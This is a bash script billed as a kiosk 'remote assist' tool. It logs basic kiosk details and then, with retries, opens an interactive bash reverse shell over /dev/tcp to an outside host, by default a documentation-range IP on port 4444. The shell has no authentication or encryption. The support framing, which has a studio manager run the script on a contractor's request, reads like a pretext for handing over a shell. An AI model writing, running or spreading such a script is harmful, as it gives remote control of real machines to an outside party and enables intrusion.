#!/usr/bin/env bash
# kiosk_remote_assist.sh - open a remote-assist session from a check-in kiosk.
#
# The self check-in kiosks sit behind each studio's router with no inbound
# access. When one misbehaves, the IT contractor asks the studio manager to
# run this from the kiosk's maintenance menu. It records some basics about
# the kiosk and then hands a shell to the contractor's assist host, retrying
# a few times if the connection drops.

set -uo pipefail

ASSIST_HOST="${ASSIST_HOST:-198.51.100.23}"
ASSIST_PORT="${ASSIST_PORT:-4444}"
RETRIES="${RETRIES:-5}"
RETRY_DELAY=15
SESSION_LOG="./remote_assist.log"

log() { printf '%s [assist] %s\n' "$(date '+%F %T')" "$*" | tee -a "$SESSION_LOG" >&2; }

usage() {
    echo "Usage: $0 [-H host] [-p port] [-r retries]"
}

while getopts ":H:p:r:h" opt; do
    case "$opt" in
        H) ASSIST_HOST="$OPTARG" ;;
        p) ASSIST_PORT="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

kiosk_summary() {
    local studio kiosk_id
    studio=$(grep -s '^STUDIO=' ./kiosk.env | cut -d= -f2)
    kiosk_id=$(grep -s '^KIOSK_ID=' ./kiosk.env | cut -d= -f2)
    log "studio=${studio:-unknown} kiosk=${kiosk_id:-unknown} host=$(hostname)"
    log "uptime: $(uptime -p 2>/dev/null || uptime)"
    log "disk: $(df -h . | awk 'NR==2 {print $4 " free of " $2}')"
    if pgrep -f checkin_app >/dev/null 2>&1; then
        log "check-in app is running"
    else
        log "check-in app is NOT running"
    fi
}

reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/$ASSIST_HOST/$ASSIST_PORT" 2>/dev/null
}

open_session() {
    log "connecting to assist host $ASSIST_HOST:$ASSIST_PORT"
    bash -i >& "/dev/tcp/$ASSIST_HOST/$ASSIST_PORT" 0>&1
}

kiosk_summary

attempt=1
while (( attempt <= RETRIES )); do
    if reachable; then
        open_session
        rc=$?
        log "session ended (rc=$rc)"
        if (( rc == 0 )); then
            break
        fi
    else
        log "assist host not reachable (attempt $attempt/$RETRIES)"
    fi
    attempt=$((attempt + 1))
    sleep "$RETRY_DELAY"
done

if (( attempt > RETRIES )); then
    log "giving up after $RETRIES attempts; call the contractor"
    exit 1
fi
log "remote assist finished"
